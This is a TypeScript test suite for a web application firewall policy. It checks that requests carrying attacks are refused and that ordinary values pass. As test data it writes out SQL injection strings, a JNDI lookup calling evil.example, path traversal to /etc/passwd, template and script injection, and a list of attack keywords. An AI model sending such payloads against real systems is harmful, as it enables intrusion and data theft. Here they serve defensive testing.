import assert from 'node:assert/strict';
import { suite, test } from 'node:test';
import { attacks } from '../deny-patterns/attacks.corpus.ts';
import { legitimate } from '../deny-patterns/legitimate.corpus.ts';
import type { Refusal } from '../../refusal.ts';
import { compilePolicy, testExchange, type TestRequest } from '../../testing.ts';
import { policy } from './policy.ts';

function refusalOf(options: Record<string, unknown>, request: TestRequest): Refusal | undefined {
  const verdict = compilePolicy(policy, options).inspect?.(testExchange(request));
  assert.ok(!(verdict instanceof Promise));
  return verdict;
}

const reasonOf = (...given: Parameters<typeof refusalOf>) => refusalOf(...given)?.reason;
const query = (value: string): TestRequest => ({
  url: `/things/v1/things/1?a=b&value=${encodeURIComponent(value)}&c`,
});
const bodyOf = (type: string, text: string): TestRequest => ({
  method: 'POST',
  headers: ['Content-Type', type, 'Content-Length', String(Buffer.byteLength(text))],
  body: Buffer.from(text),
});
const json = (value: string) => bodyOf('application/json', JSON.stringify({ note: { text: [value] } }));
const form = (value: string) =>
  bodyOf(
    'application/x-www-form-urlencoded',
    new URLSearchParams({ value }).toString().replaceAll(';', '%3B'),
  );
const xml = (value: string) =>
  bodyOf(
    'application/xml',
    `<a>${value.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll(']]>', ']]&gt;')}</a>`,
  );

/** Alone in a field these are a word or a line of prose: only the contract knows that they do not belong. */
const toldByContractOnly = new Set(['`id`']);

suite('the built-in rules', () => {
  for (const [set, values] of Object.entries(attacks))
    test(`find attacks by ${set} in query, JSON, form and text`, () => {
      for (const value of values.filter(value => !toldByContractOnly.has(value)))
        for (const [place, request] of Object.entries({
          query: query(value),
          json: json(value),
          form: form(value),
          text: bodyOf('text/plain', value),
        }))
          assert.ok(refusalOf({}, request) !== undefined, `${value} passes in ${place}`);
    });

  for (const value of legitimate)
    test(`let ${JSON.stringify(value)} pass everywhere`, () => {
      const printable = /^[^\x00-\x08\x0b\x0c\x0e-\x1f]*$/.test(value);
      for (const request of [
        query(value),
        json(value),
        form(value),
        bodyOf('text/plain', value),
        ...(printable ? [xml(value)] : []),
      ])
        assert.equal(reasonOf({}, request), undefined);
    });

  test('find what is encoded twice, in HTML entities, in escapes of JavaScript, and in XML', () => {
    for (const request of [
      { url: '/things/v1/things/1?a=%253Cscript%253E' },
      query('&lt;script&gt;'),
      query('\\u003cscript\\x3e'),
      xml('<script>go()</script>'),
      bodyOf('application/xml', '<a b="1&#39; or 1=1 --"/>'),
      bodyOf('application/json', '{"__proto\\u005f_":{"a":1}}'),
    ])
      assert.notEqual(refusalOf({}, request), undefined, JSON.stringify(request));
  });

  test('find attacks in the path and in what headers clients choose', () => {
    assert.match(reasonOf({}, { url: '/things/v1/things/1%27%20or%201=1--' }) ?? '', /REQUEST_FILENAME/);
    assert.match(
      reasonOf({}, { headers: ['User-Agent', '${jndi:ldap://evil.example/a}'] }) ?? '',
      /REQUEST_HEADERS/,
    );
    assert.match(reasonOf({}, { headers: ['User-Agent', 'sqlmap/1.7'] }) ?? '', /REQUEST_HEADERS/);
  });
});

suite('refusals', () => {
  test('tell the caller the category, and people which rules, but nobody what was sent', () => {
    const refusal = refusalOf({}, query("secret' union select password from users"));
    assert.equal(refusal?.code, 'threat-detected');
    assert.equal(refusal?.status, 403);
    assert.equal(refusal?.detail, 'The request looks like an attack: SQL injection.');
    assert.match(refusal?.reason ?? '', /^rules? 7701\d{3} in ARGS/);
    assert.doesNotMatch(JSON.stringify(refusal), /secret|password|value/);
  });

  test('own rules refuse, alone or beside the built-in ones, and can take those back', () => {
    const rules = 'SecRule ARGS:value "@streq no" "id:1,phase:2,deny"';
    assert.equal(reasonOf({ rules }, query('no')), 'rule 1 in ARGS');
    assert.equal(reasonOf({ rules, pack: false }, query('<script>')), undefined);
    const without = 'SecRuleUpdateTargetByTag gatehouse-api "!ARGS:value"';
    assert.equal(reasonOf({ rules: without }, query('<script>')), undefined);
    assert.notEqual(reasonOf({ rules: without }, { url: '/things/v1/things/1?b=%3Cscript%3E' }), undefined);
  });

  test('JSON is named by the way to each leaf', () => {
    const rules = 'SecRule ARGS:json.items.array_1.name "@streq x" "id:1,phase:2,deny"';
    const request = bodyOf('application/json', '{"items":[{"name":"y"},{"name":"x"}]}');
    assert.equal(reasonOf({ rules }, request), 'rule 1 in ARGS');
  });
});

test('a type that says JSON says so to rules where there is no body, too', () => {
  const rules = 'SecRule REQBODY_PROCESSOR "@streq JSON" "id:1,phase:2,deny"';
  const headers = ['Content-Type', 'application/json'];
  assert.equal(reasonOf({ rules }, { method: 'POST', headers }), 'rule 1 in REQBODY_PROCESSOR');
  assert.equal(reasonOf({ rules }, { method: 'POST' }), undefined);
});

suite('what cannot be judged is refused', () => {
  for (const [what, request, code] of [
    ['JSON that is none', bodyOf('application/json', '{"a":'), 'body-malformed'],
    ['a name twice', bodyOf('application/json', '{"a":1,"a":2}'), 'body-malformed'],
    ['XML with a document type', bodyOf('application/xml', '<!DOCTYPE a><a/>'), 'body-malformed'],
    ['a form that is not encoded', bodyOf('application/x-www-form-urlencoded', 'a=b c'), 'body-malformed'],
    ['a body without a type', { method: 'POST', body: Buffer.from('a') }, 'content-type-unsupported'],
    ['another charset', bodyOf('application/json; charset=utf-16', '{}'), 'content-type-unsupported'],
    [
      'a body in a content coding',
      {
        method: 'POST',
        headers: ['Content-Type', 'application/json', 'Content-Encoding', 'br'],
        body: Buffer.from('x'),
      },
      'content-coding-unsupported',
    ],
  ] as const)
    test(what, () => assert.equal(refusalOf({}, request)?.code, code));

  test('a request that would cost more to judge than one may', () => {
    // Each of them has to be asked about closely, since it holds what many rules look for.
    const words = "' or select < on ../ ${ {{ | cat ; union \\u0041 %41 &lt; http:// file:// )( $ne /etc ";
    const many = JSON.stringify(
      Object.fromEntries(Array.from({ length: 900 }, (_, i) => [`n${i}`, `${i} ${words.repeat(10)}`])),
    );
    assert.equal(
      reasonOf({ bodyBytes: 1_048_576 }, bodyOf('application/json', many)),
      'more to inspect than one request may cost',
    );
  });

  test('a body that says itself to be larger than is accepted, before it is read', () => {
    const steps = compilePolicy(policy, { bodyBytes: 10 });
    const verdict = steps.validate?.(testExchange(bodyOf('text/plain', 'x'.repeat(11))));
    assert.equal((verdict as Refusal | undefined)?.code, 'body-too-large');
    assert.equal(steps.bodyLimit, 10);
    assert.equal(steps.needsBody, true);
  });
});

suite('bodies that are JSON in all but name', () => {
  for (const type of [
    'text/plain',
    'text/plain;charset=utf-8',
    'application/octet-stream',
    'application/graphql',
  ])
    test(`are judged leaf by leaf: ${type}`, () => {
      const code = (text: string) => refusalOf({}, bodyOf(type, text))?.code;
      assert.equal(code('{"a":["net user add"]}'), 'threat-detected');
      assert.equal(code('\n[{"a":"net user add"}]'), 'threat-detected');
      assert.equal(code('{"a":["net weight"]}'), undefined);
    });
});

suite('the names of cookies', () => {
  test('are judged like their values', () => {
    const code = (cookie: string) => refusalOf({}, { headers: ['Cookie', cookie] })?.code;
    for (const attack of [
      "1' union select a from b --",
      '${jndi:ldap://a/b}',
      '../../../etc/passwd',
      '{{7*7}}',
    ])
      assert.equal(code(`a=b; ${attack}=1`), 'threat-detected', attack);
    assert.equal(code('a=b; __Host-session.v2=1; theme'), undefined);
  });
});

suite('the names of files in forms', () => {
  const upload = (head: string) =>
    refusalOf(
      {},
      bodyOf(
        'multipart/form-data; boundary=b',
        `--b\r\nContent-Disposition: form-data; ${head}\r\n\r\nx\r\n--b--\r\n`,
      ),
    );

  test('are judged like those of other fields', () => {
    assert.equal(upload(`name="' or 1=1 --"; filename="a.txt"`)?.code, 'threat-detected');
    assert.equal(
      upload('name="a"; filename="a.txt"\r\nContent-Type: text/plain; a="${jndi:ldap://a/b}"')?.code,
      'threat-detected',
    );
    assert.equal(upload('name="a"; filename="a.txt"\r\nContent-Type: text/plain'), undefined);
  });
});

suite('messages of WebSockets', () => {
  const frame = (text: string, options: Record<string, unknown> = {}) =>
    compilePolicy(policy, options).frame?.(testExchange(), Buffer.from(text), true);

  test('are judged leaf by leaf where they are JSON, and as a whole', () => {
    assert.equal(frame('{"a":["hello"]}'), undefined);
    assert.equal(frame('just text'), undefined);
    for (const text of [
      '{"a":["\\u003cscript\\u003e"]}',
      '<script>go()</script>',
      '{"a":"<script>","a":"ok"}',
      '{"a": "<script>',
      "' or 1=1 --",
    ])
      assert.equal(frame(text)?.code, 'threat-detected', text);
  });

  test('are read as JSON after any number of blanks, and after a mark', () => {
    for (const before of ['', ' '.repeat(100), '\r\n\t', '\ufeff', `\ufeff${' '.repeat(100)}`])
      assert.equal(frame(`${before}{"a":"net user add"}`)?.code, 'threat-detected', JSON.stringify(before));
  });

  test('that are nested without end, or too large, are refused or judged as text', () => {
    assert.equal(frame('['.repeat(60_000)), undefined);
    assert.equal(frame(`${'['.repeat(30_000)}"<script>"`)?.code, 'threat-detected');
    assert.equal(frame('x'.repeat(11), { bodyBytes: 10 })?.code, 'message-too-large');
  });
});

suite('rules that cannot be run void the Snapshot', () => {
  for (const [rules, why] of [
    ['SecRule ARGS "@nope x" "id:1"', /rules:1:15: expected an operator, found "@nope"/],
    ['SecRule ARGS "@rx (?=x)" "id:1"', /rules:1:15: @rx: expected a regular expression that RE2 reads/],
    ['SecRule RESPONSE_STATUS "@eq 500" "id:1,phase:3"', /rule 1 judges answers, which takes the option/],
    ['SecAction "id:1,phase:4"', /rules:1: rule 1 judges answers/],
    ['SecRule RESPONSE_STATUS "@eq 401" "id:1,phase:5,pass"', /rule 1 judges answers/],
    ['SecAction "id:1,phase:5,deny"', /rules:1:1: expected nothing that stops a request in phase 5/],
    ['SecAction "id:7701010"', /expected an id of its own/],
    ['Include /etc/passwd', /found none/],
  ] as const)
    test(rules, () => assert.throws(() => compilePolicy(policy, { rules }), why));

  test('no rule at all', () =>
    assert.throws(() => compilePolicy(policy, { pack: false }), /there is no rule to judge by/));
});
